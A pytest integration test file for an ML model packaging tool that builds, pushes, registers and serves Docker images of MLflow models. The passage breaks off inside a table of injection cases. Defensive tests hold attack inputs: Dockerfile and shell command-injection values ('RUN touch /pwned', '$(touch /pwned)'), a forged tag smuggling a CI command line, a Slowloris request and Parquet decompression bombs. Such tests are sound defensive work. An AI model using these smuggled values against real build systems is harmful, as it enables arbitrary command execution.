"""`mlsteps package` against a real Docker Engine, real registries (plain, with a login, and
ECR-named with moto's token), and a real MLflow server.

Builds are the slow part (a dependencies image installs scikit-learn, pandas and mlflow-skinny
with pip: about a minute). The tests share them the way users do: models with the same
requirements find the dependencies image by its cache key, so most tests build only a model
layer.
"""

from __future__ import annotations

import contextlib
import json
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests

from steps.package.smoke import SERVER_FILE
from tests import model_probes
from tests.integration.test_train import STARTED, assert_nothing_left, mlsteps
from tests.services import free_port, moto_ecr_password

pytestmark = pytest.mark.services

MODEL_NAME = "it-package-quickstart"
# The pipeline's commit, which the image's revision label records: the same for every run of
# the same pipeline (a different commit makes a different image).
PACKAGING_ENV = {"GITHUB_SHA": "fedcba9876543210fedcba9876543210fedcba98"}


# ----- helpers ------------------------------------------------------------------------------


def package(*args: str, cwd: Path, env: dict[str, str] | None = None) -> Any:
    return mlsteps("--json", "package", *args, cwd=cwd, env=private_tmp(cwd, env), timeout=900)


def package_registered(
    model_uri: str,
    registry: str,
    mlflow_uri: str,
    *extra: str,
    cwd: Path,
    env: dict[str, str] | None = None,
) -> dict[str, str]:
    """Package a tracked model into REGISTRY as a version of MODEL_NAME; its outputs."""
    return outputs_of(
        package(
            "--model-uri", model_uri, "--registry", registry, "--tracking-uri", mlflow_uri,
            "--name", MODEL_NAME, *extra, cwd=cwd, env=env,
        )
    )  # fmt: skip


def private_tmp(cwd: Path, env: dict[str, str] | None = None) -> dict[str, str]:
    """The test's own TMPDIR, so what a run leaves there is its own (other runs may share
    the machine's /tmp)."""
    tmp = cwd / "tmp"
    tmp.mkdir(exist_ok=True)
    return {**(env or {}), "TMPDIR": str(tmp)}


def outputs_of(done: Any) -> dict[str, str]:
    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout)
    outputs: dict[str, str] = result["outputs"]
    return outputs


def versions(uri: str, name: str) -> list[dict[str, Any]]:
    found = requests.get(
        f"{uri}/api/2.0/mlflow/model-versions/search",
        params={"filter": f"name='{name}'"},
        timeout=10,
    ).json()
    return list(found.get("model_versions", []))


def version_tags(uri: str, name: str, version: str) -> dict[str, str]:
    got = requests.get(
        f"{uri}/api/2.0/mlflow/model-versions/get",
        params={"name": name, "version": version},
        timeout=10,
    ).json()["model_version"]
    return {t["key"]: t["value"] for t in got.get("tags", [])}


def manifest(registry: str, repository: str, digest: str, auth: Any = None) -> requests.Response:
    """The pushed manifest, read back from the registry by digest."""
    accept = ", ".join(
        [
            "application/vnd.docker.distribution.manifest.v2+json",
            "application/vnd.oci.image.manifest.v1+json",
        ]
    )
    return requests.get(
        f"http://{registry}/v2/{repository}/manifests/{digest}",
        headers={"Accept": accept},
        auth=auth,
        timeout=10,
    )


def serve(
    docker_client: Any,
    image: str,
    environment: dict[str, str] | None = None,
    volumes: dict[str, Any] | None = None,
) -> tuple[Any, str]:
    """Run the image (as a platform would) and return it with its URL once /ping answers."""
    container = docker_client.containers.run(
        image, detach=True, ports={"8080/tcp": ("127.0.0.1", None)}, environment=environment,
        volumes=volumes,
    )  # fmt: skip
    container.reload()
    url = f"http://127.0.0.1:{container.ports['8080/tcp'][0]['HostPort']}"
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        try:
            if requests.get(f"{url}/ping", timeout=2).status_code == 200:
                return container, url
        except requests.RequestException:
            pass
        time.sleep(0.5)
    logs = container.logs().decode()
    container.remove(force=True)
    raise AssertionError(f"{image} did not answer /ping:\n{logs}")


def temp_left(cwd: Path) -> list[str]:
    return sorted(p.name for p in (cwd / "tmp").glob("*"))


def train_quickstart(trainer_image: str, mlflow_uri: str, workdir: Path, seed: int) -> str:
    data = workdir / "data"
    data.mkdir(exist_ok=True)
    (data / "notes.txt").write_text(f"seed {seed}\n")
    done = mlsteps(
        "--json", "train", "--image", trainer_image, "--tracking-uri", mlflow_uri,
        "--experiment", "it-package", "--data-dir", str(data), "--memory", "2g",
        "--", "python", "/app/train.py", "--n-estimators", "10", "--seed", str(seed),
        cwd=workdir, env={"GITHUB_SHA": "0123456789abcdef0123456789abcdef01234567"},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    model_uri: str = json.loads(done.stdout)["outputs"]["model-uri"]
    return model_uri


@pytest.fixture(scope="module")
def quickstart_models(
    trainer_image: str, mlflow_server: Any, tmp_path_factory: pytest.TempPathFactory
) -> list[str]:
    """Two models the quickstart trains (two seeds: a retrain with the same requirements)."""
    workdir = tmp_path_factory.mktemp("package-train")
    return [train_quickstart(trainer_image, mlflow_server.uri, workdir, s) for s in (1, 2)]


@pytest.fixture()
def workdir(tmp_path: Path) -> Path:
    return tmp_path


@pytest.fixture(autouse=True)
def _base(python_slim_image: str) -> None:
    """Every build here starts FROM the local python:3.11-slim (the default base)."""


@pytest.fixture(autouse=True)
def _tracking_uri_stays_in_the_test(monkeypatch: pytest.MonkeyPatch) -> None:
    """mlflow.set_tracking_uri also sets MLFLOW_TRACKING_URI in os.environ, where every later
    test's mlsteps process would find it (and track to a server it never asked for): the
    variable is put back as it was after each test."""
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "")
    monkeypatch.delenv("MLFLOW_TRACKING_URI")


# ----- the happy paths ----------------------------------------------------------------------


def test_quickstart_model_is_served_pushed_labelled_and_registered(
    docker_client: Any, registry: str, mlflow_server: Any, quickstart_models: list[str],
    workdir: Path,
) -> None:  # fmt: skip
    model_uri = quickstart_models[0]
    done = package(
        "--model-uri", model_uri, "--registry", registry, "--tracking-uri", mlflow_server.uri,
        "--name", MODEL_NAME, cwd=workdir, env=PACKAGING_ENV,
    )  # fmt: skip
    out = outputs_of(done)
    repository = f"{registry}/{MODEL_NAME}"
    assert out["image"].startswith(f"{repository}:model-")
    assert out["digest"].startswith("sha256:")
    assert out["image-ref"] == f"{repository}@{out['digest']}"
    assert json.loads(done.stdout)["applied"] == [
        "model.download", "image.dependencies", "image.build", "image.smoke-test",
        "image.push", "mlflow.register",
    ]  # fmt: skip
    assert "predictions equal the model's own" in done.stderr + done.stdout

    # The push landed: the registry serves the manifest by the digest we output.
    got = manifest(registry, MODEL_NAME, out["digest"])
    assert got.status_code == 200, got.text
    assert got.headers["Docker-Content-Digest"] == out["digest"]

    # Labels: the OCI set and the lineage, from the run train made.
    image = docker_client.images.get(out["image"])
    labels = image.labels
    model_id = model_uri.removeprefix("models:/")
    version = out["model-version"]
    assert labels["org.opencontainers.image.title"] == MODEL_NAME
    assert labels["org.opencontainers.image.version"] == out["image"].rsplit(":", 1)[1]
    assert labels["org.opencontainers.image.base.name"] == "python:3.11-slim"
    assert labels["org.opencontainers.image.created"].endswith("Z")
    # The commit the image was built from (the pipeline's), and the model's training commit.
    assert labels["org.opencontainers.image.revision"] == "fedcba9876543210fedcba9876543210fedcba98"
    assert labels["io.mlsteps.model.commit"] == "0123456789abcdef0123456789abcdef01234567"
    assert labels["io.mlsteps.model.name"] == MODEL_NAME
    assert labels["io.mlsteps.model.id"] == model_id
    assert labels["io.mlsteps.model.run-id"]
    assert labels["io.mlsteps.data-digest"].startswith("sha256:")
    assert labels["io.mlsteps.version"]
    assert image.attrs["Config"]["User"] == "10001:10001"
    assert image.attrs["Config"]["Healthcheck"]["Test"][-1] == "healthcheck"
    assert "8080/tcp" in image.attrs["Config"]["ExposedPorts"]

    # The version: registered from the logged model and tagged with the image and lineage.
    found = versions(mlflow_server.uri, MODEL_NAME)
    assert [v["version"] for v in found] == [version]
    assert found[0]["run_id"] == labels["io.mlsteps.model.run-id"]
    tags = version_tags(mlflow_server.uri, MODEL_NAME, version)
    assert tags["image"] == out["image-ref"]
    assert tags["mlsteps.image.digest"] == out["digest"]
    assert tags["mlsteps.lineage.run-id"] == labels["io.mlsteps.model.run-id"]
    assert tags["mlsteps.lineage.commit"] == labels["io.mlsteps.model.commit"]
    assert tags["mlsteps.lineage.data-digest"] == labels["io.mlsteps.data-digest"]
    # The labels mlsteps set (the image also inherits the base image's own).
    recorded = json.loads(tags["mlsteps.image.labels"])
    assert recorded.items() <= labels.items() and "io.mlsteps.model.id" in recorded

    # It serves what the model predicts (MLflow's own pyfunc on this machine is the judge).
    import mlflow
    import pandas as pd
    from sklearn.datasets import load_breast_cancer

    mlflow.set_tracking_uri(mlflow_server.uri)
    rows = load_breast_cancer(as_frame=True).data.sample(40, random_state=3)
    expected = mlflow.pyfunc.load_model(model_uri).predict(rows)
    container, url = serve(docker_client, out["image"])
    try:
        for body in (
            {"dataframe_split": json.loads(rows.to_json(orient="split", index=False))},
            {"dataframe_records": json.loads(rows.to_json(orient="records"))},
        ):
            answer = requests.post(f"{url}/invocations", json=body, timeout=30)
            assert answer.status_code == 200, answer.text
            assert answer.json()["predictions"] == [int(x) for x in expected]
        # The image serves with the MLflow the model was logged with (the trainer's pin, which
        # need not be this machine's).
        logged_with = mlflow.models.get_model_info(model_uri).mlflow_version
        assert requests.get(f"{url}/version", timeout=5).text == logged_with
        assert requests.get(f"{url}/health", timeout=5).status_code == 200
        assert pd.Series(expected).nunique() == 2  # both classes: a check that can fail
    finally:
        container.remove(force=True)

    # Idempotent: the same model again gives the same digest and no second version.
    again = package_registered(
        model_uri, registry, mlflow_server.uri, "--smoke-test", "false", cwd=workdir,
        env=PACKAGING_ENV,
    )  # fmt: skip
    assert again["digest"] == out["digest"] and again["model-version"] == version
    assert again["cache-hit"] == "true"
    assert [v["version"] for v in versions(mlflow_server.uri, MODEL_NAME)] == [version]

    # As on a fresh CI machine, with neither image here: a rebuild would differ by its build
    # time, so by digest. The version records the content (this dependencies key and these
    # model files): the image pushed for it is pulled and reused, and the version left alone.
    before = version_tags(mlflow_server.uri, MODEL_NAME, version)
    # By tag, not by id: other tests' images are built on the same dependencies image (its key
    # is content), which cannot be deleted under them; untagged, it is not this repository's.
    for image in docker_client.images.list(name=repository):
        for tag in image.tags:
            if tag.startswith(repository + ":"):
                docker_client.images.remove(tag)
    fresh_done = package(
        "--model-uri", model_uri, "--registry", registry, "--tracking-uri", mlflow_server.uri,
        "--name", MODEL_NAME, "--load", "false", cwd=workdir, env=PACKAGING_ENV,
    )  # fmt: skip
    fresh = outputs_of(fresh_done)
    assert fresh["digest"] == out["digest"] and fresh["model-version"] == version
    assert f"a version of the model names {out['image-ref']} for the same" in fresh_done.stderr
    assert "reusing it (its io.mlsteps.image.content label matches)" in fresh_done.stderr
    assert "Step 1/" not in fresh_done.stderr  # nothing was built
    assert "predictions equal the model's own" in fresh_done.stderr  # the pulled one, tested
    assert [v["version"] for v in versions(mlflow_server.uri, MODEL_NAME)] == [version]
    assert version_tags(mlflow_server.uri, MODEL_NAME, version) == before
    assert not docker_client.images.list(name=repository)  # --load false: none kept here
    assert temp_left(workdir) == []
    assert_nothing_left(docker_client)


def test_retrain_rebuilds_only_the_model_layer(
    docker_client: Any, registry: str, mlflow_server: Any, quickstart_models: list[str],
    workdir: Path,
) -> None:  # fmt: skip
    first, second = (
        package_registered(uri, registry, mlflow_server.uri, cwd=workdir)
        for uri in quickstart_models
    )
    assert second["cache-hit"] == "true"
    assert second["digest"] != first["digest"]
    assert second["model-version"] != first["model-version"]
    layers_1 = docker_client.images.get(first["image"]).attrs["RootFS"]["Layers"]
    layers_2 = docker_client.images.get(second["image"]).attrs["RootFS"]["Layers"]
    # Everything but the top layer (the model files) is shared.
    assert layers_1[:-1] == layers_2[:-1] and layers_1[-1] != layers_2[-1]


def test_a_forged_content_tag_does_not_push_another_models_image(
    docker_client: Any, registry: str, mlflow_server: Any, quickstart_models: list[str],
    workdir: Path,
) -> None:  # fmt: skip
    """The training holds the MLflow credentials, so it can tag its own version: pointing the
    version's `image` tag at another image of the repository (model 1's, which predicts the
    example alike) with the content tag left as it is must not make package reuse that image,
    push it under model 2's tag and register it as model 2's."""
    first, second = (
        package_registered(uri, registry, mlflow_server.uri, cwd=workdir)
        for uri in quickstart_models
    )
    version = second["model-version"]
    requests.post(
        f"{mlflow_server.uri}/api/2.0/mlflow/model-versions/set-tag",
        json={"name": MODEL_NAME, "version": version, "key": "image", "value": first["image-ref"]},
        timeout=10,
    ).raise_for_status()
    repository = f"{registry}/{MODEL_NAME}"
    for image in docker_client.images.list(name=repository):  # none of them here
        for tag in image.tags:
            if tag.startswith(repository + ":"):
                docker_client.images.remove(tag)
    done = package(
        "--model-uri", quickstart_models[1], "--registry", registry, "--tracking-uri",
        mlflow_server.uri, "--name", MODEL_NAME, "--load", "false", cwd=workdir,
    )  # fmt: skip
    again = outputs_of(done)
    assert "reusing it" not in done.stderr
    assert f"{first['image-ref']} was not built from this model's files" in done.stderr
    assert again["digest"] != first["digest"] and again["model-version"] == version
    tags = version_tags(mlflow_server.uri, MODEL_NAME, version)
    assert tags["image"] == again["image-ref"] and tags["mlsteps.image.digest"] == again["digest"]
    # The registry's tag of model 2 names a model-2 image: its content label says so.
    pulled = docker_client.images.pull(repository, tag=again["image"].rsplit(":", 1)[1])
    assert pulled.labels["io.mlsteps.image.content"] == tags["mlsteps.image.content"]
    # The refused image is not left on this engine either.
    kept = [d for i in docker_client.images.list() for d in i.attrs.get("RepoDigests") or []]
    assert f"{repository}@{first['digest']}" not in kept
    docker_client.images.remove(pulled.id, force=True)
    # A tag that is no digest (a newline in it would start a CI command line) is not used.
    forged = f"{repository}@sha256:{'0' * 64}\n::error::forged-by-a-tag"
    requests.post(
        f"{mlflow_server.uri}/api/2.0/mlflow/model-versions/set-tag",
        json={"name": MODEL_NAME, "version": version, "key": "image", "value": forged},
        timeout=10,
    ).raise_for_status()
    done = package(
        "--model-uri", quickstart_models[1], "--registry", registry, "--tracking-uri",
        mlflow_server.uri, "--name", MODEL_NAME, "--load", "false", cwd=workdir,
    )  # fmt: skip
    assert outputs_of(done)["model-version"] == version
    assert "forged-by-a-tag" not in done.stdout + done.stderr and "reusing" not in done.stderr
    assert temp_left(workdir) == []
    assert_nothing_left(docker_client)


def test_registered_version_and_alias_are_tagged_not_registered_again(
    docker_client: Any, registry: str, mlflow_server: Any, quickstart_models: list[str],
    workdir: Path,
) -> None:  # fmt: skip
    out = package_registered(
        quickstart_models[0], registry, mlflow_server.uri, "--smoke-test", "false", cwd=workdir
    )
    version = out["model-version"]
    requests.post(
        f"{mlflow_server.uri}/api/2.0/mlflow/registered-models/alias",
        json={"name": MODEL_NAME, "alias": "candidate", "version": version},
        timeout=10,
    ).raise_for_status()
    count = len(versions(mlflow_server.uri, MODEL_NAME))
    by_alias = outputs_of(
        package(
            "--model-uri",
            f"models:/{MODEL_NAME}@candidate",
            "--registry",
            registry,
            "--tracking-uri",
            mlflow_server.uri,
            "--smoke-test",
            "false",
            cwd=workdir,
        )  # fmt: skip
    )
    assert by_alias["model-version"] == version
    assert by_alias["image"] == f"{registry}/{MODEL_NAME}:v{version}"
    assert len(versions(mlflow_server.uri, MODEL_NAME)) == count
    assert version_tags(mlflow_server.uri, MODEL_NAME, version)["image"] == by_alias["image-ref"]


def _pipeline_frame(rows: int, seed: int) -> Any:
    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(seed)
    frame = pd.DataFrame(
        {
            "age": rng.normal(40, 12, rows),
            "income": rng.lognormal(10, 0.5, rows),
            "city": rng.choice(["paris", "lyon", "nice"], rows),
            "plan": rng.choice(["basic", "pro"], rows),
        }
    )
    frame["label"] = ((frame["age"] > 40) ^ (frame["city"] == "nice")).astype(int)
    return frame


def test_a_preprocessing_pipeline_with_nans_and_unseen_categories(
    docker_client: Any, mlflow_server: Any, workdir: Path
) -> None:
    """The shape users ship: imputation, scaling and one-hot on string columns in one sklearn
    Pipeline, saved as the installed MLflow saves it by default (skops, trusted types
    recorded), fed rows with NaNs and categories it never saw."""
    import mlflow
    import numpy as np
    from sklearn.compose import ColumnTransformer
    from sklearn.impute import SimpleImputer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline, make_pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler

    train = _pipeline_frame(400, 0)
    features = train.drop(columns="label")
    pipeline = Pipeline(
        [
            (
                "prep",
                ColumnTransformer(
                    [
                        (
                            "num",
                            make_pipeline(SimpleImputer(), StandardScaler()),
                            ["age", "income"],
                        ),
                        (
                            "cat",
                            make_pipeline(
                                SimpleImputer(strategy="most_frequent"),
                                OneHotEncoder(handle_unknown="ignore"),
                            ),
                            ["city", "plan"],
                        ),
                    ]
                ),
            ),
            ("model", LogisticRegression(max_iter=500)),
        ]
    ).fit(features, train["label"])
    mlflow.set_tracking_uri(mlflow_server.uri)
    mlflow.set_experiment("it-package-pipeline")
    with mlflow.start_run() as run:
        # skops refuses to load the encoder's dtype unless told to trust it; MLflow records
        # the trusted types in MLmodel, and the image must load the model with them.
        info = mlflow.sklearn.log_model(
            pipeline,
            name="model",
            input_example=features.head(3),
            skops_trusted_types=["numpy.dtype"],
        )
    flavor = mlflow.models.Model.load(info.model_uri).flavors["sklearn"]
    assert flavor["serialization_format"] == "skops"
    assert "numpy.dtype" in flavor["skops_trusted_types"]

    out = outputs_of(
        package(
            "--model-uri",
            f"runs:/{run.info.run_id}/model",
            "--tracking-uri",
            mlflow_server.uri,
            "--name",
            "it-package-pipeline",
            "--repository",
            "it-pipeline",
            cwd=workdir,
        )  # fmt: skip
    )
    assert out["digest"] == "" and out["model-version"] == ""  # no registry: built, not pushed

    rows = _pipeline_frame(30, 7).drop(columns="label")
    rows.loc[0:4, "age"] = np.nan
    rows.loc[3:8, "city"] = np.nan
    rows.loc[10:14, "city"] = "marseille"  # never seen in training
    rows.loc[15:17, "plan"] = "enterprise"
    expected = mlflow.pyfunc.load_model(info.model_uri).predict(rows)
    container, url = serve(docker_client, out["image"])
    try:
        body = {"dataframe_split": json.loads(rows.to_json(orient="split", index=False))}
        answer = requests.post(f"{url}/invocations", json=body, timeout=30)
        assert answer.status_code == 200, answer.text
        assert answer.json()["predictions"] == [int(x) for x in expected]
    finally:
        container.remove(force=True)


def test_ecr_registry_with_a_token_from_the_aws_emulator(
    docker_client: Any, ecr_registry: Any, workdir: Path, iris_model: Path
) -> None:
    """ECR path against moto (an emulator, the closest to AWS that runs here): the registry
    host has ECR's form, the login is the token GetAuthorizationToken gives."""
    done = package(
        "--model-uri", str(iris_model), "--registry", ecr_registry.registry, "--repository", "iris",
        "--smoke-test", "false", cwd=workdir, env=ecr_registry.env(),
    )  # fmt: skip
    out = outputs_of(done)
    # No user name or Docker login was given: the only credentials were moto's token.
    password = moto_ecr_password(ecr_registry.account_id)
    got = manifest(ecr_registry.address, "iris", out["digest"], auth=("AWS", password))
    assert got.status_code == 200 and got.headers["Docker-Content-Digest"] == out["digest"]
    assert password not in done.stdout + done.stderr
    # Nor in the image: its history (build steps and arguments), config and labels.
    image = docker_client.images.get(out["image"])
    recorded = json.dumps([image.attrs, image.history()])
    assert password not in recorded and "AWS:" not in recorded


# ----- a saved iris model for the failure paths (no MLflow server needed) -------------------


def _copy_model(src: Path, dest: Path) -> Path:
    shutil.copytree(src, dest)
    return dest


# ----- the server's own limits ----------------------------------------------------------------


def _raw_request(url: str, head: str, body: bytes) -> bytes:
    """Send a request as written (a length it never sends, chunks) and read the answer."""
    import socket

    host, port = url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as conn:
        conn.sendall(head.encode() + b"\r\n" + body)
        answer = b""
        while chunk := conn.recv(65536):
            answer += chunk
    return answer


def test_request_bodies_over_the_limit_are_refused_unread(
    docker_client: Any, iris_image: str
) -> None:
    from sklearn.datasets import load_iris

    rows = load_iris(as_frame=True).data.head(3)
    small = json.dumps({"dataframe_split": json.loads(rows.to_json(orient="split", index=False))})
    limit = len(small) + 100
    container, url = serve(docker_client, iris_image, {"MLSTEPS_SERVE_MAX_BODY_BYTES": str(limit)})
    try:
        assert f"request bodies up to {limit} bytes" in container.logs().decode()
        answer = requests.post(
            f"{url}/invocations", data=small, headers={"Content-Type": "application/json"},
            timeout=30,
        )  # fmt: skip
        assert answer.status_code == 200, answer.text
        # 10 GB announced, 100 bytes sent: answered at once from the length, nothing read.
        start = time.monotonic()
        got = _raw_request(
            url,
            "POST /invocations HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            "Content-Length: 10000000000\r\n",
            b"x" * 100,
        )
        assert got.startswith(b"HTTP/1.1 413"), got[:300]
        assert b"MLSTEPS_SERVE_MAX_BODY_BYTES" in got and b"connection: close" in got.lower()
        assert time.monotonic() - start < 5
        # No length: chunks counted as they come, refused once past the limit.
        chunk = b"x" * 1000
        chunks = (b"%x\r\n" % len(chunk) + chunk + b"\r\n") * (limit // 1000 + 2)
        got = _raw_request(
            url,
            "POST /invocations HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            "Transfer-Encoding: chunked\r\n",
            chunks + b"0\r\n\r\n",
        )
        assert got.startswith(b"HTTP/1.1 413"), got[:300]
        # And the server still serves.
        assert requests.get(f"{url}/ping", timeout=5).status_code == 200
    finally:
        container.remove(force=True)


def test_a_bad_body_limit_stops_the_server_with_its_name(
    docker_client: Any, iris_image: str
) -> None:
    container = docker_client.containers.run(
        iris_image, detach=True, environment={"MLSTEPS_SERVE_MAX_BODY_BYTES": "100MB"}
    )
    try:
        code = container.wait(timeout=60)["StatusCode"]
        log = container.logs().decode()
        assert code == 2, log
        assert "MLSTEPS_SERVE_MAX_BODY_BYTES='100MB' is not a positive whole number" in log
        assert "Traceback" not in log
    finally:
        container.remove(force=True)


def test_a_stalled_body_is_answered_408_and_its_connection_closed(
    iris_model: Path, workdir: Path
) -> None:
    """Slowloris: part of a body, then nothing. uvicorn alone waits for the rest forever; the
    server answers 408 once no byte came for MLSTEPS_SERVE_BODY_TIMEOUT seconds, and serves on.
    A bad value stops the server at start, naming it."""
    import socket

    with local_server(iris_model, workdir, MLSTEPS_SERVE_BODY_TIMEOUT="2") as local:
        port = int(local.rsplit(":", 1)[1])
        started = time.monotonic()
        with socket.create_connection(("127.0.0.1", port), timeout=20) as conn:
            conn.sendall(
                b"POST /invocations HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                b"Content-Length: 1000\r\n\r\n" + b"x" * 10
            )
            answer = b""
            while chunk := conn.recv(65536):  # until the server closes it
                answer += chunk
        assert answer.startswith(b"HTTP/1.1 408"), answer[:300]
        assert b"MLSTEPS_SERVE_BODY_TIMEOUT" in answer
        assert 1.5 < time.monotonic() - started < 15
        assert requests.get(f"{local}/ping", timeout=5).status_code == 200
    for bad in ("0", "nan", "inf", "30s"):
        done = subprocess.run(
            [sys.executable, str(SERVER_FILE), "serve"],
            env={"PATH": "/usr/bin:/bin", "HOME": str(workdir), "PORT": str(free_port()),
                 "MLSTEPS_MODEL_DIR": str(iris_model), "MLSTEPS_SERVE_BODY_TIMEOUT": bad},
            capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        assert done.returncode == 2, done.stderr
        assert f"MLSTEPS_SERVE_BODY_TIMEOUT={bad!r} is not a number of seconds" in done.stderr
        assert "Traceback" not in done.stderr


def _parquet(rows: Any) -> bytes:
    import io

    buffer = io.BytesIO()
    rows.to_parquet(buffer)
    return buffer.getvalue()


def test_parquet_is_read_where_pyarrow_is_and_refused_by_name_where_not(
    docker_client: Any, iris_model: Path, iris_image: str, workdir: Path
) -> None:
    """The image has pyarrow only when the model's requirements bring it (it is not added to
    every image): without it, Parquet gets a 415 that names the fix, and the 415 for other types
    lists only what the image reads. With it (the same server on this machine's Python, which
    has pyarrow), Parquet answers as JSON does."""
    from sklearn.datasets import load_iris

    rows = load_iris(as_frame=True).data.head(5)
    parquet = {"Content-Type": "application/vnd.apache.parquet"}
    container, url = serve(docker_client, iris_image)
    try:
        has_pyarrow = container.exec_run(["/opt/venv/bin/python", "-c", "import pyarrow"])
        assert has_pyarrow.exit_code != 0  # the premise: no pyarrow in this image
        answer = requests.post(
            f"{url}/invocations", data=_parquet(rows), headers=parquet, timeout=30
        )
        assert answer.status_code == 415
        assert "cannot read Parquet: pyarrow is not installed" in answer.text
        assert "add pyarrow to the model's requirements" in answer.text
        other = requests.post(
            f"{url}/invocations", data=b"x", headers={"Content-Type": "text/plain"}, timeout=30
        )
        assert other.status_code == 415 and "parquet" not in other.text
        assert "application/json, text/csv" in other.text
    finally:
        container.remove(force=True)

    with local_server(iris_model, workdir) as local:
        by_json = requests.post(
            f"{local}/invocations",
            json={"dataframe_split": json.loads(rows.to_json(orient="split", index=False))},
            timeout=30,
        )
        by_parquet = requests.post(
            f"{local}/invocations", data=_parquet(rows), headers=parquet, timeout=30
        )
        assert by_parquet.status_code == 200, by_parquet.text
        assert by_parquet.json() == by_json.json()


@contextlib.contextmanager
def local_server(model: Path, workdir: Path, **env: str) -> Iterator[str]:
    """The image's server on this machine's Python (which has pyarrow): its URL."""
    port = free_port()
    server = subprocess.Popen(
        [sys.executable, str(SERVER_FILE), "serve"],
        env={"PATH": "/usr/bin:/bin", "HOME": str(workdir), "PORT": str(port),
             "MLSTEPS_MODEL_DIR": str(model), **env},
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        local = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 60
        while True:
            try:
                if requests.get(f"{local}/ping", timeout=2).status_code == 200:
                    break
            except requests.RequestException:
                assert time.monotonic() < deadline and server.poll() is None
                time.sleep(0.3)
        yield local
    finally:
        server.kill()
        server.wait()


def test_parquet_that_decodes_to_far_more_than_the_limit_is_refused_undecoded(
    iris_model: Path, workdir: Path
) -> None:
    """A few KB of Parquet can say a million rows (zstd of zeros) or one long dictionary
    string repeated: decoded by pandas, hundreds of times the body limit. Both are answered
    413 from the footer and the dictionary lengths; a frame within the limit still answers.
    (Sizes kept to tens of MB, so that a server that decodes them does not hurt the machine.)"""
    import io

    import pyarrow as pa
    import pyarrow.parquet as pq
    from sklearn.datasets import load_iris

    def parquet_of(table: Any) -> bytes:
        buffer = io.BytesIO()
        pq.write_table(table, buffer, compression="zstd")
        return buffer.getvalue()

    rows = load_iris(as_frame=True).data.head(5)
    columns = list(rows.columns)
    zeros = parquet_of(pa.table({c: pa.array([0.0] * 1_000_000) for c in columns}))
    long = pa.array(["7" * 500])
    one_string = parquet_of(
        pa.table(
            {c: pa.DictionaryArray.from_arrays(pa.array([0] * 50_000, pa.int32()), long)
             for c in columns}
        )
    )  # fmt: skip
    limit = 1_000_000
    assert len(zeros) < 100_000 and len(one_string) < 100_000  # far within the limit
    parquet = {"Content-Type": "application/vnd.apache.parquet"}
    with local_server(iris_model, workdir, MLSTEPS_SERVE_MAX_BODY_BYTES=str(limit)) as local:
        for body, says in (
            (zeros, "1000000 rows of 4 columns"),
            (one_string, "50000 rows that decode to 100000000 bytes"),
        ):
            answer = requests.post(f"{local}/invocations", data=body, headers=parquet, timeout=60)
            assert answer.status_code == 413, answer.text[:300]
            assert answer.json()["error_code"] == "REQUEST_TOO_LARGE"
            assert says in answer.json()["message"], answer.text
            assert "MLSTEPS_SERVE_MAX_BODY_BYTES" in answer.json()["message"]
        fine = requests.post(
            f"{local}/invocations", data=_parquet(rows), headers=parquet, timeout=30
        )
        assert fine.status_code == 200, fine.text


# ----- failure paths ------------------------------------------------------------------------


def _assert_clean(docker_client: Any, workdir: Path) -> None:
    assert temp_left(workdir) == []
    assert_nothing_left(docker_client)
    smoke = docker_client.containers.list(all=True, filters={"name": "mlsteps-smoke-"})
    mine = [c for c in smoke if c.labels.get("io.mlsteps.owner-pid") in STARTED]
    assert mine == []


def test_model_uri_that_does_not_exist(mlflow_server: Any, workdir: Path) -> None:
    for uri, says in (
        (
            "models:/no-such-model-anywhere/3",
            "version 3 of model 'no-such-model-anywhere' not found",
        ),
        ("models:/no-such-model-anywhere@champion", "alias 'champion'"),
        ("runs:/0123456789abcdef0123456789abcdef/model", "run 0123456789abcdef"),
        (str(workdir / "nothing-here"), "no MLmodel file"),
    ):
        done = package("--model-uri", uri, "--tracking-uri", mlflow_server.uri, cwd=workdir)
        assert done.returncode == 2, (uri, done.stderr)
        error = json.loads(done.stdout)["error"]
        assert says in error and "--model-uri" in error
        assert "Traceback" not in done.stderr


def test_requirements_that_cannot_be_installed(
    docker_client: Any, iris_model: Path, workdir: Path
) -> None:
    model = _copy_model(iris_model, workdir / "model")
    with (model / "requirements.txt").open("a") as handle:
        handle.write("mlsteps-no-such-package-anywhere==9.9.9\n")
    done = package("--model-uri", str(model), "--repository", "it-broken-reqs", cwd=workdir)
    assert done.returncode == 1
    error = json.loads(done.stdout)["error"]
    assert "requirements" in error and "mlsteps-no-such-package-anywhere" in error
    assert not docker_client.images.list(name="it-broken-reqs")
    # forcerm: the failed step's intermediate container went with it (a build elsewhere
    # on the machine may have one running, never an exited one).
    exited = docker_client.containers.list(all=True, filters={"status": "exited"})
    assert not [c for c in exited if "install_requirements.py" in str(c.attrs["Config"])]
    _assert_clean(docker_client, workdir)


def _edit(model: Path, name: str, old: str, new: str) -> None:
    text = (model / name).read_text()
    assert old in text, text
    (model / name).write_text(text.replace(old, new, 1))


# Each is a value that reached the generated Dockerfile or its shell line unquoted: a newline
# after FROM adds instructions, $(…) in the RUN line runs at build time. (flags, edit of the
# iris model's files, what the refusal names.)
INJECTIONS = {
    "base-image": (
        ("--base-image", "python:3.11-slim\nRUN touch /pwned"), None, "--base-image",
    ),
    "pip-index-url": (
        ("--pip-index-url", "https://pypi.example/simple; touch /pwned"), None,
        "--pip-index-url",
    ),
    "pip-extra-index-url": (
        ("--pip-extra-index-url", "https://pypi.example/$(touch /pwned)"), None,
        "--pip-extra-index-url",
    ),
    # Reaches apt-get as an argv word from a JSON file, never the RUN line; refused anyway.
    "system-package": (
        ("--system-package", "libgomp1; touch /pwned"), None, "--system-package",
    ),
    "loader_module": (
